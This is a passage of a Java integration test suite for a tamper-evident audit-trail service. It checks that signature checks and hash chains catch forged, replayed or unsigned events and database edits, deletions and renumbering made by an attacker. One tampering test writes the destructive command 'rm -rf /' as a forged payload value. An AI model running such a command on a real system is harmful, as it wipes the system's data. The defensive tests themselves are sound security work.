            // The last row deleted: the chain's head still says where it ended.
            Map<String, Object> last = chainOf(tail).get(2);
            update("DELETE FROM audit_event WHERE event_id = '" + last.get("eventId") + "'");
            as("alice")
                    .get("/audit/verify?host=" + tail)
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(false))
                    .body("sequence", equalTo(3))
                    .body("reason", equalTo("row missing"))
                    .body("expectedHash", equalTo(last.get("hash")))
                    .body("verified", equalTo(2));
        } finally {
            forget(host);
            forget(tail);
        }
    }

    // ---------------------------------------------------------------- host signatures

    @Test
    void theReplayCheckFindsStoredNumbersAmongScatteredOnesAsked() {
        String crq = freshCrq();
        String host = "numbers-" + UUID.randomUUID();
        CloudEvent first = send(host, crq, "exec", BASE, payload("n 1"));
        send(host, crq, "exec", BASE.plusSeconds(1), payload("n 2"));
        CloudEvent third = send(host, crq, "exec", BASE.plusSeconds(2), payload("n 3"));
        await().atMost(WAIT)
                .untilAsserted(
                        () -> as("alice").get("/audit/" + third.id()).then().statusCode(200));

        // Unsorted, repeated, with gaps and numbers not stored: the ranges asked (1, 3, 7-8, 20) find 1 and 3 only.
        Map<Long, String> stored = QuarkusTransaction.requiringNew()
                .call(() -> auditEvents.storedHostSeqs(host, keyId(HOST_KEY), List.of(20L, 3L, 1L, 8L, 7L, 1L)));
        assertThat(stored).isEqualTo(Map.of(1L, first.id(), 3L, third.id()));
        assertThat(QuarkusTransaction.requiringNew()
                        .call(() -> auditEvents.storedHostSeqs(host, "SHA256:another-key", List.of(1L, 2L, 3L))))
                .isEmpty();
    }

    @Test
    void anEventSignedWithAnotherHostsKeyIsRefusedCountedRecordedAndTheRealHostsChainGoesOn() {
        String crq = freshCrq();
        String hostA = "signer-a-" + UUID.randomUUID();
        String hostB = "signer-b-" + UUID.randomUUID();
        KeyPair keyA = Ed25519.generate();
        register(hostA, keyA).body("fingerprint", equalTo(keyId(keyA))).body("registeredBy", equalTo("admin"));
        long rejectedBefore = as("alice")
                .get("/audit/rejections")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getLong("total");
        Scrape before = scrape();
        send(hostB, crq, "exec", BASE, payload("b 1"));

        // Whoever may write the audit topic, holding host A's key, claims to be host B: refused.
        CloudEvent forged = EventCodec.envelope(
                "exec-agent/" + hostB,
                AuditSignature.sign(
                        new AuditCaptured(hostB, crq, "exec", BASE.plusSeconds(1), payload("forged")),
                        2,
                        keyA.getPrivate(),
                        keyId(keyA)));
        topics.send(Topics.AUDIT_EVENTS, hostB, EventCodec.toJson(forged));
        // Unsigned, and a replay of B's first number under a new event id: refused too.
        CloudEvent unsigned = EventCodec.envelope(
                "exec-agent/" + hostB, new AuditCaptured(hostB, crq, "exec", BASE.plusSeconds(2), payload("unsigned")));
        topics.send(Topics.AUDIT_EVENTS, hostB, EventCodec.toJson(unsigned));
        CloudEvent replay = EventCodec.envelope(
                "exec-agent/" + hostB,
                AuditSignature.sign(
                        new AuditCaptured(hostB, crq, "exec", BASE, payload("b 1")),
                        1,
                        HOST_KEY.getPrivate(),
                        keyId(HOST_KEY)));
        topics.send(Topics.AUDIT_EVENTS, hostB, EventCodec.toJson(replay));
        CloudEvent next = send(hostB, crq, "exec", BASE.plusSeconds(3), payload("b 2"));

        await().atMost(WAIT)
                .untilAsserted(() -> as("alice")
                        .get("/audit/" + next.id())
                        .then()
                        .statusCode(200)
                        .body("sequence", equalTo(2))
                        .body("hostSeq", equalTo(2))
                        .body("keyId", equalTo(keyId(HOST_KEY))));
        assertThat(texts("SELECT payload->>'command' FROM audit_event WHERE host = '" + hostB + "' ORDER BY sequence"))
                .containsExactly("b 1", "b 2");
        as("alice")
                .get("/audit/verify?host=" + hostB)
                .then()
                .body("ok", equalTo(true))
                .body("verified", equalTo(2));

        List<ConsumerRecord<String, String>> dead = operator.awaitAll(
                Topics.deadLetter("audit-collector"),
                v -> v.contains(forged.id()) || v.contains(unsigned.id()) || v.contains(replay.id()),
                3,
                WAIT);
        assertThat(dead).extracting(ConsumerRecord::value).anyMatch(v -> v.contains(forged.id()));
        JsonPath rejections = rejections();
        assertThat(rejections.getLong("total")).isGreaterThanOrEqualTo(rejectedBefore + 3);
        assertThat(rejections.getString("latest.find { it.eventId == '" + forged.id() + "' }.reason"))
                .contains("another host (" + hostA + ")");
        assertThat(rejections.getString("latest.find { it.eventId == '" + forged.id() + "' }.keyId"))
                .isEqualTo(keyId(keyA));
        assertThat(rejections.getString("latest.find { it.eventId == '" + unsigned.id() + "' }.reason"))
                .contains("not signed");
        assertThat(rejections.getString("latest.find { it.eventId == '" + replay.id() + "' }.reason"))
                .contains("replay");
        // Counted by kind of reason, and dead-lettered (service-kit's counter).
        Scrape after = scrape();
        assertRejectedMore(before, after, "foreign_key", "unsigned", "replay");
        assertThat(after.sum("gitcrq_delivery_dead_lettered_total", "channel", "audit-events"))
                .isGreaterThanOrEqualTo(
                        before.sum("gitcrq_delivery_dead_lettered_total", "channel", "audit-events") + 3);

        // Each refusal is a record of audit-collector's own trail: what the event claimed, never its payload.
        JsonPath trail = rejectedRecords();
        Map<String, Object> record = trail.getMap("items.find { it.payload.eventId == '" + forged.id() + "' }.payload");
        assertThat(record)
                .containsEntry("hostClaimed", hostB)
                .containsEntry("keyId", keyId(keyA))
                .containsEntry("source", "exec-agent/" + hostB)
                .doesNotContainKey("payload");
        assertThat(record.toString()).doesNotContain("forged");
        as("alice").get("/audit/verify?host=gitcrq/audit-collector").then().body("ok", equalTo(true));
    }

    @Test
    void eventsOfAHostWithoutARegisteredKeyAreHeldAndChainedInOrderOnceItIsRegistered() {
        String crq = freshCrq();
        String host = "new-host-" + UUID.randomUUID();
        KeyPair key = Ed25519.generate();
        List<String> ids = new ArrayList<>();
        List<String> records = new ArrayList<>();
        for (long seq = 1; seq <= 3; seq++) {
            CloudEvent e = EventCodec.envelope(
                    "exec-agent/" + host,
                    AuditSignature.sign(
                            new AuditCaptured(host, crq, "exec", BASE.plusSeconds(seq), payload("held " + seq)),
                            seq,
                            key.getPrivate(),
                            keyId(key)));
            ids.add(e.id());
            records.add(EventCodec.toJson(e));
        }
        Scrape before = scrape();
        long rowsBefore = count("SELECT count(*) FROM audit_event");
        // Received out of order: chained by hostSeq once the key is known.
        sendAll(Topics.AUDIT_EVENTS, host, List.of(records.get(1), records.get(0), records.get(2)));
        await().atMost(WAIT)
                .until(() -> count("SELECT count(*) FROM audit_held_event WHERE host = '" + host + "'") == 3);
        // The metrics say as many held as the table holds, and three more received held.
        await().atMost(WAIT)
                .untilAsserted(() -> assertThat(scrape().sum("gitcrq_audit_events_held"))
                        .isEqualTo((double) count("SELECT count(*) FROM audit_held_event")));
        assertThat(scrape().sum("gitcrq_audit_events_held_received_total"))
                .isEqualTo(before.sum("gitcrq_audit_events_held_received_total") + 3);
        assertThat(count("SELECT count(*) FROM audit_event WHERE host = '" + host + "'"))
                .isZero();
        assertThat(as("admin")
                        .get("/audit/hosts")
                        .then()
                        .statusCode(200)
                        .extract()
                        .jsonPath()
                        .getLong("find { it.host == '" + host + "' }.held"))
                .isEqualTo(3);

        register(host, key);
        assertThat(texts("SELECT event_id FROM audit_event WHERE host = '" + host + "' ORDER BY sequence"))
                .containsExactlyElementsOf(ids);
        assertThat(count("SELECT count(*) FROM audit_held_event WHERE host = '" + host + "'"))
                .isZero();
        as("alice")
                .get("/audit/verify?host=" + host)
                .then()
                .body("ok", equalTo(true))
                .body("verified", equalTo(3));
        // Stored counts every row appended: the three released events and the registration's governance record.
        await().atMost(WAIT)
                .untilAsserted(() -> assertThat(scrape().sum("gitcrq_audit_events_stored_total")
                                - before.sum("gitcrq_audit_events_stored_total"))
                        .isEqualTo((double) (count("SELECT count(*) FROM audit_event") - rowsBefore)));
    }

    private static Scrape scrape() {
        // No login: Prometheus scrapes without one.
        return Scrape.parse(
                given().get("/q/metrics").then().statusCode(200).extract().asString());
    }

    @Test
    void hostKeysAreRegisteredListedAndRevokedByAdminsOnlyEachAGovernanceRecord() {
        String host = "keyed-" + UUID.randomUUID();
        KeyPair key = Ed25519.generate();
        Map<String, String> body = Map.of("host", host, "publicKey", pem(key));
        given().contentType("application/json")
                .body(body)
                .post("/audit/hosts")
                .then()
                .statusCode(401);
        as("alice")
                .contentType("application/json")
                .body(body)
                .post("/audit/hosts")
                .then()
                .statusCode(403);
        as("bob").get("/audit/hosts").then().statusCode(403);
        given().get("/audit/hosts").then().statusCode(401);
        as("alice")
                .delete("/audit/hosts/" + host + "/keys/" + keyId(key))
                .then()
                .statusCode(403);

        // Not an Ed25519 key: an RSA public key, and text that is no key at all.
        String rsa = rsaPublicKeyPem();
        as("admin")
                .contentType("application/json")
                .body(Map.of("host", host, "publicKey", rsa))
                .post("/audit/hosts")
                .then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body("detail", containsString("not an Ed25519 public key"));
        as("admin")
                .contentType("application/json")
                .body(Map.of("host", host, "publicKey", "hello"))
                .post("/audit/hosts")
                .then()
                .statusCode(400)
                .contentType("application/problem+json");
        as("admin")
                .contentType("application/json")
                .body(Map.of("host", "gitcrq/merge-bot", "publicKey", pem(key)))
                .post("/audit/hosts")
                .then()
                .statusCode(400)
                .contentType("application/problem+json");

        as("admin")
                .contentType("application/json")
                .body(body)
                .post("/audit/hosts")
                .then()
                .statusCode(201);
        as("admin")
                .contentType("application/json")
                .body(body)
                .post("/audit/hosts")
                .then()
                .statusCode(409)
                .contentType("application/problem+json");
        as("admin")
                .get("/audit/hosts")
                .then()
                .statusCode(200)
                .body("find { it.host == '" + host + "' }.fingerprint", equalTo(keyId(key)))
                .body("find { it.host == '" + host + "' }.publicKey", equalTo(pem(key)))
                .body("find { it.host == '" + host + "' }.revokedAt", nullValue());

        // An event signed before the revocation stays valid; one after it is refused.
        String crq = freshCrq();
        CloudEvent before = EventCodec.envelope(
                "exec-agent/" + host,
                AuditSignature.sign(
                        new AuditCaptured(host, crq, "exec", BASE, payload("before")),
                        1,
                        key.getPrivate(),
                        keyId(key)));
        topics.send(Topics.AUDIT_EVENTS, host, EventCodec.toJson(before));
        await().atMost(WAIT)
                .untilAsserted(
                        () -> as("alice").get("/audit/" + before.id()).then().statusCode(200));
        as("admin")
                .delete("/audit/hosts/" + host + "/keys/" + keyId(key))
                .then()
                .statusCode(200)
                .body("revokedBy", equalTo("admin"))
                .body("revokedAt", notNullValue());
        as("admin")
                .delete("/audit/hosts/" + host + "/keys/" + keyId(key))
                .then()
                .statusCode(409);
        as("admin")
                .delete("/audit/hosts/" + host + "/keys/SHA256:nope")
                .then()
                .statusCode(404)
                .contentType("application/problem+json");
        CloudEvent after = EventCodec.envelope(
                "exec-agent/" + host,
                AuditSignature.sign(
                        new AuditCaptured(host, crq, "exec", BASE.plusSeconds(1), payload("after")),
                        2,
                        key.getPrivate(),
                        keyId(key)));
        topics.send(Topics.AUDIT_EVENTS, host, EventCodec.toJson(after));
        operator.await(Topics.deadLetter("audit-collector"), v -> v.contains(after.id()), WAIT);
        as("alice")
                .get("/audit/verify?host=" + host)
                .then()
                .body("ok", equalTo(true))
                .body("verified", equalTo(1));

        // Both changes in audit-collector's own trail: who, and the host's keys before and after.
        List<Map<String, Object>> changes = as("alice")
                .get("/audit?host=gitcrq/audit-collector&kind=governance&size=500")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getList("items.findAll { it.payload.after.host == '" + host + "' }.payload");
        assertThat(changes)
                .hasSize(2)
                .allSatisfy(change -> assertThat(change)
                        .containsEntry("rule", "host-keys")
                        .containsEntry("changedBy", "admin")
                        .containsEntry("service", "audit-collector"));
        assertThat(changes)
                .extracting(change -> List.of(change.get("before"), change.get("after")))
                .containsExactlyInAnyOrder(
                        List.of(
                                Map.of("host", host, "keys", List.of()),
                                Map.of("host", host, "keys", List.of(keyId(key)))),
                        List.of(
                                Map.of("host", host, "keys", List.of(keyId(key))),
                                Map.of("host", host, "keys", List.of())));
    }

    /** Edited as an attacker with the database would: the row changed and every hash after it recomputed. */
    @Test
    void aPayloadEditedWithTheChainRecomputedFailsOnTheHostsSignatureNamingTheRow() {
        String crq = freshCrq();
        String host = "resigned-" + UUID.randomUUID();
        try {
            for (int i = 0; i < 3; i++) {
                send(host, crq, "exec", BASE.plusSeconds(i), payload("step " + i));
            }
            awaitTotal("host=" + host, 3);
            String secondId = (String) chainOf(host).get(1).get("eventId");

            update("UPDATE audit_event SET payload = jsonb_set(payload, '{command}', '\"rm -rf /\"') "
                    + "WHERE event_id = '" + secondId + "'");
            rehash(host);
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(false))
                    .body("sequence", equalTo(2))
                    .body("eventId", equalTo(secondId))
                    .body("reason", equalTo("signature invalid"))
                    .body("verified", equalTo(1));

            // Its signature removed instead (not hashed, so the chain still holds): an unsigned row is named too.
            update("UPDATE audit_event SET host_seq = NULL, key_id = NULL, signature = NULL " + "WHERE event_id = '"
                    + secondId + "'");
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .body("ok", equalTo(false))
                    .body("eventId", equalTo(secondId))
                    .body("reason", equalTo("row unsigned"));
        } finally {
            forget(host);
        }
    }

    // ---------------------------------------------------------------- deletion as detectable as editing

    /** A head as the host signs it: its last number and the digest of that event's signed form. */
    private CloudEvent sendHead(String host, AuditCaptured last) {
        String digest = AuditSignature.digest(AuditSignature.canonical(
                last.host(), last.crqId(), last.kind(), last.occurredAt(), last.payload(), last.hostSeq()));
        CloudEvent head = EventCodec.envelope(
                "exec-agent/" + host,
                AuditSignature.signHead(
                        host, last.hostSeq(), digest, Instant.now(), HOST_KEY.getPrivate(), keyId(HOST_KEY)));
        topics.send(Topics.AUDIT_EVENTS, host, EventCodec.toJson(head));
        return head;
    }

    @Test
    void aTailCutOffOrAWholeChainDeletedFailsOnTheHostsSignedHead() {
        String crq = freshCrq();
        String host = "headed-" + UUID.randomUUID();
        try {
            AuditCaptured last = null;
            for (int i = 0; i < 4; i++) {
                last = signed(new AuditCaptured(host, crq, "exec", BASE.plusSeconds(i), payload("step " + i)));
                topics.send(
                        Topics.AUDIT_EVENTS, host, EventCodec.toJson(EventCodec.envelope("exec-agent/" + host, last)));
            }
            sendHead(host, last);
            await().atMost(WAIT)
                    .until(() -> count("SELECT count(*) FROM audit_signed_head WHERE host = '" + host + "'") == 1);
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .body("ok", equalTo(true))
                    .body("verified", equalTo(4));

            // The last row deleted and the chain's head moved back to the one before: hashes and head agree.
            update("DELETE FROM audit_event WHERE host = '" + host + "' AND sequence = 4");
            update(
                    "UPDATE audit_chain_head SET last_sequence = 3, last_hash = (SELECT hash FROM audit_event WHERE host = '"
                            + host + "' AND sequence = 3) WHERE host = '" + host + "'");
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(false))
                    .body("reason", equalTo("chain truncated"))
                    .body("detail", containsString("hostSeq 4"))
                    .body("verified", equalTo(3));

            // The whole chain deleted, head row and all: the signed heads remain.
            update("DELETE FROM audit_event WHERE host = '" + host + "'");
            update("DELETE FROM audit_chain_head WHERE host = '" + host + "'");
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(false))
                    .body("reason", equalTo("chain deleted"));
            as("alice").get("/audit/verify").then().body("ok", equalTo(false)).body("host", equalTo(host));
        } finally {
            forget(host);
        }
    }

    @Test
    void aRowDeletedWithTheChainRenumberedAndRehashedFailsOnTheHostsNumbering() {
        String crq = freshCrq();
        String host = "renumbered-" + UUID.randomUUID();
        try {
            for (int i = 0; i < 3; i++) {
                send(host, crq, "exec", BASE.plusSeconds(i), payload("step " + i));
            }
            awaitTotal("host=" + host, 3);
            String thirdId = (String) chainOf(host).get(2).get("eventId");
            update("DELETE FROM audit_event WHERE host = '" + host + "' AND sequence = 2");
            update("UPDATE audit_event SET sequence = 2 WHERE event_id = '" + thirdId + "'");
            update("UPDATE audit_chain_head SET last_sequence = 2 WHERE host = '" + host + "'");
            rehash(host);
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(false))
                    .body("sequence", equalTo(2))
                    .body("eventId", equalTo(thirdId))
                    .body("reason", equalTo("hostSeq gap"))
                    .body("detail", containsString("events 2 of the host are missing"));
        } finally {
            forget(host);
        }
    }

    @Test
    void aRetentionCheckpointInsertedByHandFailsVerification() {
        String crq = freshCrq();
        String host = "forged-checkpoint-" + UUID.randomUUID();
        try {
            for (int i = 0; i < 3; i++) {
                send(host, crq, "exec", BASE.plusSeconds(i), payload("step " + i));
            }
            awaitTotal("host=" + host, 3);
            // What retention would leave, made by hand: the start deleted, a checkpoint where it ended.
            String secondHash = (String) chainOf(host).get(1).get("hash");
            update("DELETE FROM audit_event WHERE host = '" + host + "' AND sequence <= 2");
            update(
                    "INSERT INTO audit_checkpoint (host, sequence, hash, cutoff, deleted, host_seq, host_key_id) VALUES ('"
                            + host + "', 2, '" + secondHash + "', now(), 2, 2, '" + keyId(HOST_KEY) + "')");
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(false))
                    .body("reason", equalTo("checkpoint unsigned"))
                    .body("sequence", equalTo(2));
            // Signed with a key that is not audit-collector's: no better.
            KeyPair other = Ed25519.generate();
            update("UPDATE audit_checkpoint SET signer_key_id = '" + keyId(other) + "', signature = '"
                    + Ed25519.sign(
                            other.getPrivate(),
                            AuditSignature.checkpointCanonical(
                                    host, 2, secondHash, 2L, keyId(HOST_KEY), Instant.now(), 2))
                    + "' WHERE host = '" + host + "'");
            as("alice").get("/audit/verify?host=" + host).then().body("reason", equalTo("checkpoint unsigned"));
        } finally {
            forget(host);
        }
    }

    /** Recomputes every hash of the host's chain and its head from the rows as they are now. */
    @Transactional
    @SuppressWarnings("unchecked")
    void rehash(String host) {
        List<Object[]> rows = em.createNativeQuery(
                        "SELECT event_id, crq_id, kind, occurred_at, payload::text, sequence "
                                + "FROM audit_event WHERE host = ?1 ORDER BY sequence")
                .setParameter(1, host)
                .getResultList();
        String prev = ChainHash.GENESIS;
        for (Object[] row : rows) {
            long sequence = ((Number) row[5]).longValue();
            String hash = ChainHash.hash(
                    prev,
                    (String) row[0],
                    host,
                    (String) row[1],
                    (String) row[2],
                    SqlTimes.instant(row[3]),
                    (String) row[4],
                    sequence);
            em.createNativeQuery("UPDATE audit_event SET prev_hash = ?1, hash = ?2 WHERE event_id = ?3")
                    .setParameter(1, prev)
                    .setParameter(2, hash)
                    .setParameter(3, row[0])
                    .executeUpdate();
            prev = hash;
        }
        em.createNativeQuery("UPDATE audit_chain_head SET last_hash = ?1 WHERE host = ?2")
                .setParameter(1, prev)
                .setParameter(2, host)
                .executeUpdate();
    }

    private static String rsaPublicKeyPem() {
        try {
            KeyPairGenerator rsa = KeyPairGenerator.getInstance("RSA");
            rsa.initialize(2048);
            return "-----BEGIN PUBLIC KEY-----\n"
                    + Base64.getMimeEncoder()
                            .encodeToString(rsa.generateKeyPair().getPublic().getEncoded())
                    + "\n-----END PUBLIC KEY-----\n";
        } catch (java.security.GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    // ---------------------------------------------------------------- export

    @Test
    void anExportIsVerifiedOfflineFromItsLinesAlone() {
        String crq = freshCrq();
        String other = freshCrq();
        String hostA = "export-a-" + UUID.randomUUID();
        String hostB = "export-b-" + UUID.randomUUID();
        // A payload with what canonical forms trip over: key order, escapes, non-ASCII, odd numbers.
        String exotic = "{\"z\":1.50,\"a\":[1e3,-0.0,0.1,12345678901234567890123,true,null,{\"y\":\"x\",\"b\":[]}],"
                + "\"\u00e9\":\"caf\u00e9 \u2615 \uD83D\uDE00\",\"A\":\"tab\\there \\\"q\\\" back\\\\slash /\\u0001\\u007f\","
                + "\"\uD83D\uDE00\":{},\"b\":2E-7}";
        // Signed over the exotic payload itself, which the placeholder is replaced with on the wire.
        registerHostKey(hostA);
        long exoticSeq = nextHostSeq(hostA);
        CloudEvent exoticEvent = EventCodec.envelope(
                "exec-agent/" + hostA,
                new AuditCaptured(
                        hostA,
                        crq,
                        "keystroke",
                        BASE,
                        EventCodec.mapper().createObjectNode().put("placeholder", true),
                        exoticSeq,
                        keyId(HOST_KEY),
                        // A batch of one: its root is its leaf, its audit path empty.
                        Ed25519.sign(
                                HOST_KEY.getPrivate(),
                                AuditSignature.batchStatement(
                                        hostA,
                                        exoticSeq,
                                        1,
                                        AuditSignature.leaf(AuditSignature.canonical(
                                                hostA, crq, "keystroke", BASE, exotic, exoticSeq)))),
                        exoticSeq,
                        1,
                        List.of()));
        topics.send(
                Topics.AUDIT_EVENTS, hostA, EventCodec.toJson(exoticEvent).replace("{\"placeholder\":true}", exotic));
        awaitTotal("host=" + hostA, 1); // sent first, so it is link 1 of hostA
        for (int i = 1; i <= 3; i++) {
            send(hostA, crq, "exec", BASE.plusSeconds(i), payload("a " + i));
            send(hostB, crq, "exec", BASE.plusSeconds(i), payload("b " + i));
        }
        send(hostA, other, "exec", BASE.plusSeconds(10), payload("another CRQ"));
        awaitTotal("host=" + hostA, 5);
        awaitTotal("host=" + hostB, 3);

        Response export = as("alice").get("/audit/export?host=" + hostA);
        export.then().statusCode(200).contentType(startsWith("application/x-ndjson"));
        List<JsonNode> lines = jsonLines(export.asString());
        assertThat(lines).hasSize(5);
        // The whole chain of hostA, from genesis, recomputed from the lines alone.
        String last = verifyChainOffline(lines, "0".repeat(64), 1);
        as("alice")
                .get("/audit/verify?host=" + hostA)
                .then()
                .body("ok", equalTo(true))
                .body("lastHash", equalTo(last));
        JsonNode first = lines.get(0);
        assertThat(first.get("eventId").asText()).isEqualTo(exoticEvent.id());
        assertThat(offlineCanonical(first.get("payload")))
                .isEqualTo(
                        "{\"A\":\"tab\\there \\\"q\\\" back\\\\slash /\\u0001\\u007f\","
                                + "\"a\":[1000,0,0.1,12345678901234567890123,true,null,{\"b\":[],\"y\":\"x\"}],"
                                + "\"b\":0.0000002,\"z\":1.5,\"\\u00e9\":\"caf\\u00e9 \\u2615 \\ud83d\\ude00\",\"\\ud83d\\ude00\":{}}");
        assertThat(export.asString()).isEqualTo(new String(export.asByteArray(), StandardCharsets.US_ASCII));
        assertThat(first.get("source").asText()).isEqualTo("exec-agent/" + hostA);
        assertThat(first.get("receivedAt").asText()).isNotBlank();

        // A CRQ's export: lines of both hosts, by host then sequence; every line's hash recomputes, and hostB's
        // lines (all of its chain) chain from genesis.
        List<JsonNode> crqLines = jsonLines(as("bob")
                .get("/audit/export?crq=" + crq.toLowerCase(Locale.ROOT))
                .then()
                .statusCode(200)
                .extract()
                .asString());
        assertThat(crqLines)
                .hasSize(7)
                .allSatisfy(line -> assertThat(line.get("crqId").asText()).isEqualTo(crq));
        List<String> expected = new ArrayList<>(lines.stream()
                .filter(line -> line.get("crqId").asText().equals(crq))
                .map(line -> hostA + "#" + line.get("sequence").asLong())
                .toList());
        expected.addAll(List.of(hostB + "#1", hostB + "#2", hostB + "#3"));
        assertThat(crqLines)
                .extracting(line ->
                        line.get("host").asText() + "#" + line.get("sequence").asLong())
                .containsExactlyElementsOf(expected);
        crqLines.forEach(
                line -> assertThat(offlineHash(line)).isEqualTo(line.get("hash").asText()));
        verifyChainOffline(crqLines.subList(4, 7), "0".repeat(64), 1);

        // from is included, to is not (on occurredAt).
        List<JsonNode> window = jsonLines(as("alice")
                .get("/audit/export?host=" + hostA + "&from=2024-05-01T10:00:01Z&to=2024-05-01T10:00:03Z")
                .then()
                .statusCode(200)
                .extract()
                .asString());
        assertThat(window)
                .extracting(line -> line.get("occurredAt").asText())
                .containsExactlyInAnyOrder("2024-05-01T10:00:01Z", "2024-05-01T10:00:02Z");
        assertThat(as("alice")
                        .get("/audit/export?host=nobody-" + UUID.randomUUID())
                        .then()
                        .statusCode(200)
                        .extract()
                        .asString())
                .isEmpty();
    }

    @Test
    void anAgentsToolCallIsChainedInMcpServersTrailAsTheCrqsRecordAndShownInItsTimeline() {
        String crq = freshCrq();
        ObjectNode arguments = EventCodec.mapper()
                .createObjectNode()
                .put("crqId", crq)
                .put("command", "make test")
                .put("apiToken", "***");
        CloudEvent called = publish(event(
                "gitcrq/mcp-server",
                BASE,
                new AgentToolCalled(
                        UUID.randomUUID().toString(),
                        crq,
                        "exec_run",
                        arguments,
                        AgentToolCalled.OK,
                        null,
                        "alice",
                        BASE.plusSeconds(5))));
        publish(called); // a redelivery: stored once
        // A call naming no CRQ is mcp-server's own record: in its chain, in no timeline.
        String callId = UUID.randomUUID().toString();
        publish(event(
                "gitcrq/mcp-server",
                BASE,
                new AgentToolCalled(
                        callId,
                        null,
                        "crq_approve",
                        EventCodec.mapper().createObjectNode().put("id", "CRQ-1"),
                        AgentToolCalled.REFUSED,
                        "alice may not use crq_approve",
                        "alice",
                        BASE.plusSeconds(6))));

        awaitTotal("crq=" + crq, 1);
        Map<String, Object> row = as("alice")
                .get("/audit?crq=" + crq)
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getMap("items[0]");
        assertThat(row.get("host")).isEqualTo("gitcrq/mcp-server");
        assertThat(row.get("crqId")).isEqualTo(crq);
        assertThat(row.get("kind")).isEqualTo(AgentToolCall.KIND);
        @SuppressWarnings("unchecked")
        Map<String, Object> payload = (Map<String, Object>) row.get("payload");
        assertThat(payload)
                .containsEntry("tool", "exec_run")
                .containsEntry("caller", "alice")
                .containsEntry("outcome", "OK")
                .containsEntry("arguments", Map.of("crqId", crq, "command", "make test", "apiToken", "***"));
        assertWrittenAs(EventCodec.mapper().valueToTree(payload).toString(), AgentToolCall.class);

        List<Map<String, Object>> timeline = as("alice")
                .get("/audit/timeline?crq=" + crq)
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getList("entries");
        assertThat(timeline)
                .anySatisfy(entry -> assertThat(String.valueOf(entry.get("summary")))
                        .startsWith("agent-tool-call on gitcrq/mcp-server"));

        await().atMost(WAIT)
                .untilAsserted(() -> assertThat(chainOf("gitcrq/mcp-server"))
                        .anySatisfy(r -> assertThat(((Map<?, ?>) r.get("payload")).get("callId"))
                                .isEqualTo(callId)));
        assertThat(chainOf("gitcrq/mcp-server"))
                .filteredOn(r -> callId.equals(((Map<?, ?>) r.get("payload")).get("callId")))
                .singleElement()
                .satisfies(r -> assertThat(r.get("crqId")).isNull());
        as("alice")
                .get("/audit/verify?host=gitcrq/mcp-server")
                .then()
                .statusCode(200)
                .body("ok", equalTo(true));
    }

    @Test
    void aChangeOfMergeSettingsIsAGovernanceRecordWithWhoBeforeAndAfterOnTheRepositorysTrail() {
        String repo = "governed-" + UUID.randomUUID();
        MergeSettingsChanged.MergeRules defaults = new MergeSettingsChanged.MergeRules("merge", List.of(), false);
        MergeSettingsChanged.MergeRules strict =
                new MergeSettingsChanged.MergeRules("squash", List.of("build", "lint"), true);
        CloudEvent first = publish(event(
                "gitcrq/merge-bot",
                BASE,
                new MergeSettingsChanged(repo, "bob", defaults, strict, BASE.plusSeconds(1))));
        publish(first); // a redelivery: stored once
        publish(event(
                "gitcrq/merge-bot",
                BASE,
                new MergeSettingsChanged(repo, "admin", strict, defaults, BASE.plusSeconds(2))));

        awaitTotal("repo=" + repo, 2);
        List<Map<String, Object>> items = as("alice")
                .get("/audit?kind=governance&repo=" + repo)
                .then()
                .statusCode(200)
                .body("total", equalTo(2))
                .extract()
                .jsonPath()
                .getList("items");
        Map<String, Object> newest = items.get(0);
        assertThat(newest.get("host")).isEqualTo("gitcrq/merge-bot");
        assertThat(newest.get("crqId")).isNull();
        assertThat(newest.get("kind")).isEqualTo("governance");
        @SuppressWarnings("unchecked")
        Map<String, Object> change = (Map<String, Object>) newest.get("payload");
        assertThat(change)
                .containsEntry("service", "merge-bot")
                .containsEntry("rule", "merge-settings")
                .containsEntry("repo", repo)
                .containsEntry("changedBy", "admin")
                .containsEntry(
                        "before",
                        Map.of(
                                "strategy",
                                "squash",
                                "requiredChecks",
                                List.of("build", "lint"),
                                "deleteMergedBranch",
                                true))
                .containsEntry(
                        "after", Map.of("strategy", "merge", "requiredChecks", List.of(), "deleteMergedBranch", false));
        @SuppressWarnings("unchecked")
        Map<String, Object> older = (Map<String, Object>) items.get(1).get("payload");
        assertThat(older).containsEntry("changedBy", "bob");
        assertWrittenAs(EventCodec.mapper().valueToTree(change).toString(), GovernanceChange.class);

        // Chained like any host's trail, and exported for the repository with lines an auditor checks offline.
        as("alice")
                .get("/audit/verify?host=gitcrq/merge-bot")
                .then()
                .statusCode(200)
                .body("ok", equalTo(true));
        List<JsonNode> lines = jsonLines(as("bob")
                .get("/audit/export?repo=" + repo)
                .then()
                .statusCode(200)
                .extract()
                .asString());
        assertThat(lines).hasSize(2).allSatisfy(line -> {
            assertThat(line.get("crqId").isNull()).isTrue();
            assertThat(offlineHash(line)).isEqualTo(line.get("hash").asText());
        });

        // git-watcher's webhook settings: whether the secret was replaced, in its own chain.
        publish(event(
                "gitcrq/git-watcher",
                BASE,
                new WebhookSettingsChanged(repo, "alice", null, "acme/" + repo, true, BASE.plusSeconds(3))));
        awaitTotal("repo=" + repo, 3);
        Map<String, Object> webhook = as("alice")
                .get("/audit?kind=governance&host=gitcrq/git-watcher&repo=" + repo)
                .then()
                .statusCode(200)
                .body("total", equalTo(1))
                .extract()
                .jsonPath()
                .getMap("items[0].payload");
        assertThat(webhook)
                .containsEntry("service", "git-watcher")
                .containsEntry("rule", "webhook")
                .containsEntry("changedBy", "alice")
                .containsEntry("after", Map.of("webhookName", "acme/" + repo, "secretReplaced", true));

        // An edit of the repository's git config that changes its policy, as git-watcher saw it at a poll.
        publish(event(
                "gitcrq/git-watcher",
                BASE,
